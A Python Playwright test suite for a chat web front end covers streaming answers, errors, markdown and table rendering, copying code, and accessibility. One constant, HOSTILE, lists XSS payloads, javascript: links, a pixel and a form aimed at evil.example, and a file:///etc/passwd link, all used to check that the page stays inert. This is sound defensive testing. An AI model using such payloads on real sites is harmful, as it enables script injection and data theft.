"""The page at `/`, used as a person would, in a real Chromium."""

import asyncio
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright", reason="needs what `make test-all` installs")
from axe_playwright_python.async_playwright import Axe

from tests.browser import Line, Tab, need_chromium, open_tab
from tests.conftest import StartService, StartUpstream, openai_env
from tests.upstream import END, Connection, delta

pytestmark = pytest.mark.slow

KEY = "key-of-0123456789abcdefghij"
Browse = Callable[..., Awaitable[Tab]]
SIZES = {"wide": {"width": 1100, "height": 800}, "narrow": {"width": 360, "height": 740}}


@pytest.fixture
async def browse(service: StartService, upstream: StartUpstream) -> Any:
    """`await browse(app.url)` opens the page. It is closed before the service ends."""
    need_chromium()
    async with AsyncExitStack() as stack:
        yield lambda url, **context: stack.enter_async_context(open_tab(url, **context))


async def so_far(connection: Connection) -> None:
    """Begins an answer and does not end it."""
    await connection.stream(delta("So far"))


# ---- a conversation


async def test_a_whole_conversation(service: StartService, browse: Browse) -> None:
    app = await service(RATE_LIMIT="off")
    tab = await browse(app.url)
    assert await tab.page.is_visible("text=A chat backend, ready to try")
    await tab.say("Hello <b>there</b>")
    assert "a mock: no model is behind it" in await tab.ended()
    assert not await tab.page.is_visible("#about")
    assert (await tab.response_text()).endswith("You said: Hello <b>there</b>")
    assert await tab.page.input_value("#message") == ""
    await tab.say("And again", "mock/lorem-100")
    assert "mock/lorem-100" in await tab.ended(2)
    reply = await app.get(f"/api/v1/sessions/{await tab.session()}")
    said = [m["content"] for m in (await reply.json())["messages"] if m["role"] == "user"]
    assert said == ["Hello <b>there</b>", "And again"]
    assert await tab.page.locator(".user .text").all_inner_texts() == said


async def test_pieces_are_shown_as_they_arrive_and_finished_blocks_are_left_alone(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    seen = asyncio.Event()

    async def script(connection: Connection) -> None:
        await connection.stream(delta("First.\n\nSecond"))
        await seen.wait()
        await connection.send_events(delta(" and more."), delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.page.locator(".text p", has_text="Second").wait_for()
    await tab.page.evaluate("document.querySelectorAll('.text p')[0].seen = true")
    assert await tab.page.get_attribute(".assistant", "aria-busy") == "true"
    seen.set()
    await tab.ended()
    assert await tab.response_text() == "First.\n\nSecond and more."
    assert await tab.page.evaluate("document.querySelector('.assistant .text p').seen") is True
    assert await tab.page.get_attribute(".assistant", "aria-busy") is None


async def test_ten_thousand_pieces_are_drawn_at_most_once_a_frame(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.page.select_option("#model", "other")
    await tab.page.fill("#other", "mock/lorem-10000")
    await tab.page.evaluate(
        """() => {
            window.draws = window.frames_seen = 0;
            const frame = () => { frames_seen++; requestAnimationFrame(frame); };
            requestAnimationFrame(frame);
            new MutationObserver((all) => {
                draws += all.some((each) => each.target.matches(".assistant .text"));
            }).observe(document.querySelector("main"), { childList: true, subtree: true });
        }"""
    )
    await tab.say("Hello")
    assert "mock/lorem-10000" in await tab.ended()
    assert len((await tab.response_text()).split()) == 10_000
    draws, frames = await tab.page.evaluate("[draws, frames_seen]")
    # The ending draws once more, outside of a frame.
    assert 0 < draws <= frames + 1


async def test_stop_closes_the_line_to_the_provider_and_keeps_what_was_said(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(so_far)
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    assert await tab.page.is_disabled("#send")
    await tab.page.click("#stop")
    assert await tab.ended() == "Stopped. The assistant remembers what it said."
    await (await provider.wait_for_request()).closed.wait()
    assert (await app.log.wait_for_request(-1))["outcome"] == "client_disconnected"
    assert await tab.page.is_enabled("#send")
    await tab.reload()
    assert await tab.response_text() == "So far"
    assert await tab.ended() == "This answer was cut off."


async def test_an_answer_that_is_stopped_before_its_first_word(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.say("Hello", "mock/hang")
    await tab.page.click("#stop")
    assert await tab.ended() == "Stopped before the first word."


async def test_a_reload_in_the_middle_of_an_answer_shows_what_was_said(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(so_far)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    await tab.reload()
    assert await tab.response_text() == "So far"
    assert await tab.ended() == "This answer was cut off."


async def test_a_reload_keeps_conversation_model_and_key_and_new_begins_another(
    service: StartService, browse: Browse
) -> None:
    app = await service(API_KEYS=f"web:{KEY}", ALLOW_ANONYMOUS="false")
    tab = await browse(app.url)
    await tab.say("Hello", "mock/echo")
    assert "API key is missing or unknown" in await tab.ended()
    # The panel has opened, with the cursor in it; the message may be sent again.
    await tab.page.keyboard.type(KEY)
    await tab.page.keyboard.press("Escape")
    assert await tab.page.input_value("#message") == "Hello"
    await tab.page.click("#send")
    await tab.ended(2)
    await tab.reload()
    assert await tab.page.locator("article").count() == 2
    assert (await tab.response_text()).endswith("You said: Hello")
    assert await tab.page.input_value("#model") == "mock/echo"
    first = await tab.session()
    await tab.page.click("#new")
    assert await tab.page.locator("article").count() == 0
    await tab.say("Hello again")
    await tab.ended()
    assert await tab.session() != first


async def test_a_reload_keeps_the_name_of_a_model_that_was_typed(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.page.select_option("#model", "other")
    await tab.page.fill("#other", "mock/lorem-3")
    await tab.say("Hello")
    await tab.ended()
    await tab.reload()
    await tab.page.wait_for_selector("#other", state="visible")
    await tab.say("Hello")
    assert "mock/lorem-3" in await tab.ended(2)


async def test_a_conversation_that_is_left_while_it_is_fetched_does_not_return(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    left = asyncio.Event()

    async def delay(route: Any) -> None:
        await left.wait()
        await route.continue_()

    await tab.page.route("**/sessions/*", delay)
    await tab.page.reload()
    await tab.page.click("#new")
    async with tab.page.expect_event("requestfinished"):
        left.set()
    await tab.say("Hello again")
    await tab.ended()
    assert await tab.page.locator(".user .text").all_inner_texts() == ["Hello again"]


async def test_a_conversation_that_is_left_before_it_is_fetched_is_not_asked_for(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(so_far)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    await tab.page.clock.install(time=0)
    await tab.page.clock.pause_at(1)
    await tab.page.reload()
    await tab.page.click("#new")
    await tab.page.clock.fast_forward(10_000)
    await tab.page.evaluate("fetch('healthz')")
    assert asked[-1].endswith("/healthz")
    assert not [url for url in asked if "/sessions/" in url]


async def test_what_is_deleted_is_gone(service: StartService, browse: Browse) -> None:
    app = await service()
    tab = await browse(app.url)
    assert await tab.page.is_disabled("#delete")
    await tab.say("Hello")
    await tab.ended()
    session = await tab.session()
    tab.page.once("dialog", lambda dialog: dialog.dismiss())
    await tab.page.click("#delete")
    assert (await app.get(f"/api/v1/sessions/{session}")).status == 200
    tab.page.once("dialog", lambda dialog: dialog.accept())
    await tab.page.click("#delete")
    await tab.page.wait_for_selector("#about", state="visible")
    assert (await app.get(f"/api/v1/sessions/{session}")).status == 404


async def test_a_conversation_that_has_ended_meanwhile(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    await (await app.connect()).request("DELETE", f"/api/v1/sessions/{await tab.session()}")
    await tab.say("Still there?")
    assert "has ended, or is not yours. Start a new one." in await tab.ended(2)
    await tab.reload()
    assert await tab.page.is_visible("text=Your earlier conversation here has ended.")
    await tab.say("Hello")
    await tab.ended()


# ---- what goes wrong


@pytest.mark.parametrize(
    ("model", "text", "told"),
    [
        ("echo", "You said: Hello", "a mock: no model is behind it"),
        ("lorem-100", "lorem ipsum", "mock/lorem-100"),
        ("slow", "This is mock/slow, not a model", "mock/slow"),
        ("hang", "", "The model was too slow."),
        ("error", "", "provider failed."),
        ("error-midstream", "This is mock/error-midstream", "provider failed."),
        ("truncated", "This is mock/truncated", "broke off the answer."),
        ("rate-limited", "", "Try again in 2 s"),
        ("empty", "", "The model ended without a word"),
        ("unicode", "日本語 👩‍👩‍👧 नमस्ते سلام e\u0301 line\u2028separator", "mock/unicode"),
    ],
)
async def test_each_ending_is_told(
    service: StartService, browse: Browse, model: str, text: str, told: str
) -> None:
    # Between the chunks of mock/slow there are heartbeats, which show nothing.
    limits = {"FIRST_TOKEN_TIMEOUT_SECONDS": "2", "HEARTBEAT_SECONDS": "0.1"}
    app = await service(MAX_RETRIES="0", **limits)
    tab = await browse(app.url)
    await tab.say("Hello", f"mock/{model}")
    assert told in await tab.ended()
    assert text in await tab.response_text()


async def test_an_error_shows_its_request_id_to_copy_and_can_be_tried_again(
    service: StartService, browse: Browse
) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url, permissions=["clipboard-read", "clipboard-write"])
    await tab.say("Hello", "mock/error")
    problem = await tab.ended()
    request_id = (await app.log.wait_for_request(-1))["request_id"]
    assert request_id in problem
    await tab.page.click(".problem .note button")
    await tab.page.wait_for_selector("text=Copied")
    assert await tab.page.evaluate("navigator.clipboard.readText()") == request_id
    await tab.page.select_option("#model", "mock/echo")
    await tab.page.click(".problem > button")
    await tab.page.wait_for_selector(".assistant > .note")
    # The failed attempt has given way to the one that succeeded.
    assert await tab.page.locator("article").count() == 2


async def test_a_wait_is_counted_down(service: StartService, browse: Browse) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.say("Hello", "mock/rate-limited")
    assert "Try again in 2 s" in await tab.ended()
    assert await tab.page.is_disabled(".problem > button")
    await tab.page.wait_for_selector("text='Try again in 1 s'")
    await tab.page.wait_for_selector("text='Try again'")
    assert await tab.page.is_enabled(".problem > button")


async def test_who_asks_too_often_is_told_how_long_to_wait(
    service: StartService, browse: Browse
) -> None:
    app = await service(RATE_LIMIT="1/hour")
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    await tab.say("Again")
    problem = await tab.ended(2)
    assert "You have asked as often as you may for now." in problem
    assert "Try again in 3600 s" in problem or "Try again in 3599 s" in problem
    await tab.page.reload()
    assert "You have asked as often as you may for now." in await tab.page.inner_text(".problem")


async def test_what_is_refused_can_be_changed(service: StartService, browse: Browse) -> None:
    app = await service(MAX_MESSAGE_CHARS="5")
    tab = await browse(app.url)
    await tab.say("Hello there")
    assert "message must have at most 5 characters (got 11)" in await tab.ended()
    assert await tab.page.input_value("#message") == "Hello there"


async def test_a_line_that_is_cut_is_told_as_what_it_is(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(so_far)
    app = await service(**openai_env(provider.url))
    line = Line(app.url)
    tab = await browse(await line.listen())
    await tab.say("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    line.cut()
    problem = await tab.ended()
    assert "The connection was cut before the answer ended" in problem
    assert await tab.response_text() == "So far"
    await tab.say("Still there?")
    assert "be reached. See that it runs" in await tab.ended(2)
    assert [trouble for trouble in tab.troubles if "net::ERR_" not in trouble] == []
    tab.troubles.clear()


# ---- what a model says

HOSTILE = """<script>document.title = "run"</script><img src=x onerror="document.title = 'run'">

<iframe src="https://evil.example/"></iframe> <svg onload=alert(1)> &lt;b&gt;

![x](https://evil.example/pixel.png?secret) ![](//evil.example/y.png)

[a](javascript:document.title='run') [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>x</script>)
[d](vbscript:x) [e](/api/v1/models) [f]( javascript:alert(1)) <javascript:alert(1)>
[g](java\tscript:alert(1)) [h](\x01javascript:alert(1)) [i](file:///etc/passwd) [j](blob:https://x/y)

[https://bank.example](https://evil.example/"onmouseover="alert(1)) https://evil.example/"onclick="x

```html" onload="alert(1)
<script>alert(1)</script></code></pre><img src=https://evil.example/z.png>
```

# <img src=https://evil.example/h.png>

- <style>* { display: none }</style>
> <form action="https://evil.example"><input name=a></form>

\u202eesrever\u202c a\U000e0041b

| <img src=x onerror=alert(1)> | [k](javascript:alert(1)) | `</td><script>alert(1)</script>` |
|:-:|--:|---|
| <td onclick=alert(1)> | https://evil.example/"style="x | <br onload=alert(1)> |
"""


async def test_a_hostile_answer_runs_nothing_and_loads_nothing(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda c: c.complete(HOSTILE[:40], HOSTILE[40:]))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    made = await tab.page.evaluate(
        "[...document.querySelectorAll('.assistant .text *')].map((each) => each.localName)"
    )
    code = {"figure", "figcaption", "button", "pre", "code"}
    table = {"div", "table", "thead", "tbody", "tr", "th", "td"}
    assert set(made) == {"p", "h3", "ul", "li", "blockquote", "a", *code, *table}
    links = await tab.page.evaluate(
        "[...document.querySelectorAll('.assistant a')].map((a) => [a.protocol, a.rel, a.target])"
    )
    assert len(links) == 7
    assert {tuple(link) for link in links} == {("https:", "noopener noreferrer", "_blank")}
    handlers = "//*[@*[starts-with(name(), 'on')]]"
    assert await tab.page.locator(handlers).count() == 0
    text = await tab.response_text()
    assert '<script>document.title = "run"</script>' in text
    assert "esrever ab" in text
    await tab.reload()
    assert await tab.response_text() == text
    assert await tab.page.title() == "chat-sidecar"


async def test_the_page_itself_could_not_make_html_of_text(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    for attempt in (
        "document.body.innerHTML = '<p>'",
        "document.body.insertAdjacentHTML('beforeend', '<p>')",
        "document.createElement('script').text = 'x'",
    ):
        with pytest.raises(Exception, match=r"TrustedHTML|TrustedScript"):
            await tab.page.evaluate(attempt)
    # Chromium reports each of them.
    assert len(tab.troubles) == 3
    tab.troubles.clear()


MARKDOWN = """# One `two`
Text with **bold *both* bold**, *italic*, _leaning_, snake_case_name, 2 * 3 * 4, \\*plain\\*,
``a `tick` in code`` and [a **link**](https://example.com/a_(b) "title"), https://example.com/c_d.

1. first
2. second

   with a paragraph
   - inner
     - innermost

     ```
     code  in a list
     ```
3. third
lazy

***

- other
* kind

> quoted
> - list

before
| Left | Right <br> `a \\| b` | *Middle* |
|:--|--:|:-:|
| 1 | **2** | 3 |
4

~~~python
if a < b:

    print("```")
~~~
```
open
"""
SHOWN = (
    '<h3 dir="auto">One <code>two</code></h3>'
    '<p dir="auto">Text with <strong>bold <em>both</em> bold</strong>, <em>italic</em>, '
    "<em>leaning</em>, snake_case_name, 2 * 3 * 4, *plain*,\n<code>a `tick` in code</code> and "
    "<a>a <strong>link</strong></a>, <a>https://example.com/c_d</a>.</p>"
    '<ol start="1" dir="auto"><li><p>first</p></li><li><p>second</p><p>with a paragraph</p>'
    "<ul><li><p>inner</p><ul><li><p>innermost</p></li></ul><pre>code  in a list</pre></li></ul>"
    "</li><li><p>third\nlazy</p></li></ol>"
    '<hr dir="auto"><ul dir="auto"><li><p>other</p></li><li><p>kind</p></li></ul>'
    '<blockquote dir="auto"><p>quoted</p><ul><li><p>list</p></li></ul></blockquote>'
    '<p dir="auto">before</p>'
    '<div class="table" tabindex="0" role="group" aria-label="Table" dir="auto"><table><thead><tr>'
    '<th scope="col" style="text-align: left;">Left</th>'
    '<th scope="col" style="text-align: right;">Right <br> <code>a | b</code></th>'
    '<th scope="col" style="text-align: center;"><em>Middle</em></th></tr></thead><tbody><tr>'
    '<td style="text-align: left;">1</td><td style="text-align: right;"><strong>2</strong></td>'
    '<td style="text-align: center;">3</td></tr><tr><td style="text-align: left;">4</td>'
    '<td style="text-align: right;"></td><td style="text-align: center;"></td></tr></tbody>'
    "</table></div>"
    '<pre>if a &lt; b:\n\n    print("```")</pre><pre>open\n</pre>'
)
# The elements of the newest answer, without what is the same in every link and code block.
ELEMENTS = """() => {
    const text = [...document.querySelectorAll(".assistant .text")].at(-1).cloneNode(true);
    for (const figure of text.querySelectorAll("figure")) {
        const pre = document.createElement("pre");
        pre.textContent = figure.querySelector("code").textContent;
        figure.replaceWith(pre);
    }
    text.querySelectorAll("a").forEach((a) => a.getAttributeNames().forEach(
        (name) => a.removeAttribute(name)));
    return text.innerHTML;
}"""


async def test_markdown_is_shown_the_same_piece_by_piece_and_at_once(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda connection: connection.complete(*MARKDOWN))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    assert await tab.page.evaluate(ELEMENTS) == SHOWN
    await tab.reload()
    assert await tab.page.evaluate(ELEMENTS) == SHOWN


# Its rows; or why there is no table.
TABLES = {
    "|a|b|\n|-|-|": "a,b",
    "a | b\n- | -": "no table: the second line begins a list",
    "a | b\n:- | -": "a,b",
    "| a |\n|:-:|\n| 1 |": "a/1",
    "| a | b |\n|-|-|\n| 1 |\n| 1 | 2 | 3 |\nx\n\nbehind": "a,b/1,/1,2/x,",
    "| a | b |\n|-|-|\n| 1 | 2 |\n> behind": "a,b/1,2",
    "| a \\| b | `c \\| d` |\n|-|-|\n| \\\\| | e \\": "a | b,c | d/|,e \\",
    "| | b |\n|-|-|\n|||": ",b/,",
    "> | a | b |\n> |-|-|\n> | 1 | 2 |": "a,b/1,2",
    "- c\n  | a | b |\n  |-|-|\n  | 1 | 2 |": "a,b/1,2",
    "a | b": "no table: no second line",
    "a | b\nc | d": "no table: no hyphens",
    "| a | b |\n|-|": "no table: two columns, then one",
    "| a | b |\n\n|-|-|": "no table: a blank line between them",
    "| a | b |\n|-|- x|": "no table: letters",
    "a\n-": "no table: no bar",
    "a\n---": "no table: a rule",
}


async def test_a_table_is_what_github_takes_for_one(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda c: c.complete(c.body["messages"][-1]["content"]))
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url)
    for number, (markdown, shown) in enumerate(TABLES.items(), 1):
        await tab.say(markdown)
        await tab.ended(number)
        rows = await tab.page.evaluate(
            """() => [...[...document.querySelectorAll(".assistant")].at(-1).querySelectorAll("tr")]
                .map((row) => [...row.cells].map((cell) => cell.textContent).join()).join("/")"""
        )
        assert rows == ("" if shown.startswith("no table") else shown), markdown


async def test_a_small_answer_does_not_make_a_huge_table(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    hostile = f"{'a|' * 1000}\n{'-|' * 1000}\n" + "x\n" * 1000
    provider = await upstream(lambda connection: connection.complete(hostile))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    assert await tab.page.locator("td").count() == 2000
    assert (await tab.response_text()).count("x") == 1000


WIDE = "| One | Two | Three |\n|---|---|---|\n" + f"| {'x' * 40} | {'y' * 40} | {'z' * 40} |\n"


async def test_a_wide_table_scrolls_by_itself_while_it_arrives(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    steps = asyncio.Queue[str]()

    async def script(connection: Connection) -> None:
        await connection.stream(delta(await steps.get()))
        for _ in range(2):
            await connection.send_events(delta(await steps.get()))
        await connection.send_events(delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url, viewport=SIZES["narrow"])
    await tab.say("Hello")
    steps.put_nowait(WIDE[:22])
    # Until the second line has come it may yet be text.
    await tab.page.locator(".text p", has_text="Three").wait_for()
    steps.put_nowait(WIDE[22:])
    await tab.page.wait_for_selector("td")
    await tab.page.evaluate("document.querySelector('td').seen = true")
    await tab.page.focus(".table")
    await tab.page.keyboard.press("ArrowRight")
    await tab.until("document.querySelector('.table').scrollLeft > 20")
    steps.put_nowait("| further |")
    await tab.ended()
    assert await tab.page.evaluate(
        """document.querySelector("td").seen && document.activeElement.matches(".table")
            && document.activeElement.scrollLeft > 20
            && document.querySelectorAll("tbody tr").length === 2
            && document.documentElement.scrollWidth <= innerWidth"""
    )


async def test_code_can_be_read_and_copied_while_it_arrives(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    more = asyncio.Event()

    async def script(connection: Connection) -> None:
        await connection.stream(delta("```pyt"), delta("hon\n" + "x" * 500 + "\n"))
        await more.wait()
        await connection.send_events(delta("further\n"), delta("```"), delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url, permissions=["clipboard-read", "clipboard-write"])
    await tab.say("Hello")
    await tab.page.locator("pre", has_text="xxx").wait_for()
    await tab.page.evaluate("document.querySelector('pre').scrollLeft = 100")
    await tab.page.focus("pre")
    await tab.page.hover("figure button")
    await tab.page.mouse.down()
    await tab.page.evaluate("getSelection().selectAllChildren(document.querySelector('pre code'))")
    more.set()
    await tab.ended()
    assert "xxx" in await tab.page.evaluate("String(getSelection().getRangeAt(0))")
    await tab.page.mouse.up()
    await tab.page.wait_for_selector("text=Copied")
    copied = await tab.page.evaluate("navigator.clipboard.readText()")
    assert copied == "x" * 500 + "\nfurther"
    assert await tab.page.evaluate("document.querySelector('pre').scrollLeft") == 100


async def test_code_is_copied_as_it_is(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    answer = "```python\nif a < b:\n    pass\n```\n"
    provider = await upstream(lambda connection: connection.complete(answer))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url, permissions=["clipboard-read", "clipboard-write"])
    await tab.say("Hello")
    await tab.ended()
    await tab.page.click("figure >> text=Copy")
    await tab.page.wait_for_selector("text=Copied")
    assert await tab.page.evaluate("navigator.clipboard.readText()") == "if a < b:\n    pass"
    # Copied as a part of all, it comes without what is written on the button.
    await tab.page.evaluate("getSelection().selectAllChildren(document.querySelector('figure'))")
    await tab.page.keyboard.press("Control+c")
    copied = await tab.page.evaluate("navigator.clipboard.readText()")
    assert copied.strip() == "if a < b:\n    pass"


# ---- for everybody


async def test_it_is_used_by_the_keyboard_alone(service: StartService, browse: Browse) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url)
    keys = tab.page.keyboard

    async def reach(element: str) -> None:
        for _ in range(20):
            if await tab.page.evaluate(f"document.activeElement.matches({element!r})"):
                return
            await keys.press("Tab")
        raise AssertionError(f"{element} is not reached")

    # The cursor is where one writes.
    await keys.type("One")
    await keys.press("Shift+Enter")
    await keys.type("Two")
    await keys.press("Enter")
    await tab.ended()
    assert await tab.page.inner_text(".user .text") == "One\nTwo"
    await reach("#model")
    await keys.type("mock/hang")
    await reach("#send")
    await keys.press("Shift+Tab")
    await keys.press("Shift+Tab")
    await keys.type("Three")
    await keys.press("Enter")
    await tab.page.wait_for_selector("#stop", state="visible")
    await keys.press("Escape")
    assert await tab.ended(2) == "Stopped before the first word."
    await reach("summary")
    await keys.press("Enter")
    await reach("#key")
    await keys.press("Escape")
    assert not await tab.page.is_visible("#key")
    await reach("#new")
    await keys.press("Enter")
    await tab.page.wait_for_selector("#about", state="visible")
    await reach("#message")


async def test_escape_closes_the_panel_before_it_stops_an_answer(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.say("Hello", "mock/hang")
    await tab.page.click("summary")
    await tab.page.press("#key", "Escape")
    assert not await tab.page.is_visible("#key")
    assert await tab.page.is_visible("#stop")
    assert await tab.page.evaluate("document.activeElement.id") == "message"
    await tab.page.keyboard.press("Escape")
    assert await tab.ended() == "Stopped before the first word."


async def test_the_keyboard_reaches_nothing_beneath_header_and_composer(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    answer = "".join(f"[link](https://example.com/) {n}\n\n```\n{n}\n```\n" for n in range(20))
    provider = await upstream(lambda connection: connection.complete(answer))
    app = await service(**openai_env(provider.url))
    # The smallest that WCAG 2.2 asks for (1.4.10): 1280 pixels at four times the size.
    tab = await browse(app.url, viewport={"width": 320, "height": 640})
    assert await tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await tab.say("Hello")
    await tab.ended()
    for key in ["Shift+Tab"] * 40 + ["Tab"] * 39:
        await tab.page.keyboard.press(key)
        assert await tab.page.evaluate(
            """() => {
                const edge = (name) => document.querySelector(name).getBoundingClientRect();
                const { top, bottom } = document.activeElement.getBoundingClientRect();
                return !document.activeElement.closest("article")
                    || (top >= edge("header").bottom && bottom <= edge("form").top);
            }"""
        )


async def test_new_text_is_followed_until_the_reader_scrolls_up_however_little(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    chunks = asyncio.Queue[str]()

    async def script(connection: Connection) -> None:
        await connection.stream(delta("Line\n\n" * 100))
        for _ in range(2):
            await connection.send_events(delta(await chunks.get()))

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    left = (
        "document.documentElement.scrollHeight - document.documentElement.clientHeight"
        " - document.documentElement.scrollTop"
    )
    await tab.say("Hello")
    await tab.page.locator(".text p").nth(99).wait_for()
    await tab.until(f"{left} < 2")
    await tab.page.mouse.move(400, 300)
    await tab.page.mouse.wheel(0, -20)
    await tab.until(f"{left} > 10")
    chunks.put_nowait("More.\n\n" * 10)
    await tab.page.locator(".text p", has_text="More.").nth(9).wait_for()
    assert await tab.page.evaluate(left) > 100
    await tab.page.mouse.wheel(0, 2000)
    await tab.until(f"{left} < 2")
    chunks.put_nowait("And more.\n\n" * 10)
    await tab.page.locator(".text p", has_text="And more.").nth(9).wait_for()
    await tab.until(f"{left} < 2")
    # What grows at the bottom does not hide the end either.
    await tab.page.fill("#message", "Line\n" * 10)
    await tab.until(f"{left} < 2")


async def test_what_one_writes_has_the_direction_of_its_letters(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    for text, direction in (("سلام", "rtl"), ("Hello", "ltr")):
        await tab.page.fill("#message", text)
        found = "getComputedStyle(document.querySelector('#message')).direction"
        assert await tab.page.evaluate(found) == direction


async def test_a_screen_reader_is_told_words_apart(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda connection: connection.complete("One.\n\nTwo.\n\n- Three"))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.say("Hello")
    await tab.ended()
    told = await tab.page.text_content("#status")
    assert (told or "").split()[:3] == ["One.", "Two.", "Three"]


async def test_a_screen_reader_is_told_the_end_of_an_answer_once(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.page.evaluate(
        """() => {
            window.told = [];
            const region = document.querySelector("[role=status]");
            new MutationObserver(() => told.push(region.textContent))
                .observe(region, { childList: true });
        }"""
    )
    await tab.say("Hello", "mock/lorem-100")
    await tab.ended()
    told = await tab.page.evaluate("told")
    assert len(told) == 1
    assert told[0].startswith("The answer has 100 words. mock/lorem-100")
    live = "[aria-live] .text, [role=log] .text, [role=status] .text, [role=alert] .text"
    assert await tab.page.locator(live).count() == 0


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_nothing(
    service: StartService, upstream: StartUpstream, browse: Browse, size: str, scheme: str
) -> None:
    provider = await upstream(
        lambda connection: connection.complete(WIDE, "\n", MARKDOWN, "x" * 500)
    )
    app = await service(**openai_env(provider.url), MODELS="gpt-4o-mini,mock/*")
    tab = await browse(app.url, viewport=SIZES[size], color_scheme=scheme)

    async def check() -> None:
        found = await Axe().run(tab.page)
        assert found.violations_count == 0, found.generate_report()
        width = "document.documentElement.scrollWidth <= innerWidth"
        assert await tab.page.evaluate(width)

    await check()
    await tab.say("Hello " + "x" * 500)
    await tab.ended()
    await tab.say("Hello", "mock/rate-limited")
    await tab.ended(2)
    await check()
    await tab.say("Hello", "mock/hang")
    await tab.page.click("summary")
    await tab.page.wait_for_selector("#stop", state="visible")
    await check()


def test_the_pictures_are_there() -> None:
    for name in ("page-light.png", "page-dark.png"):
        size = (Path(__file__).parent.parent / "docs" / name).stat().st_size
        assert 5_000 < size < 150_000
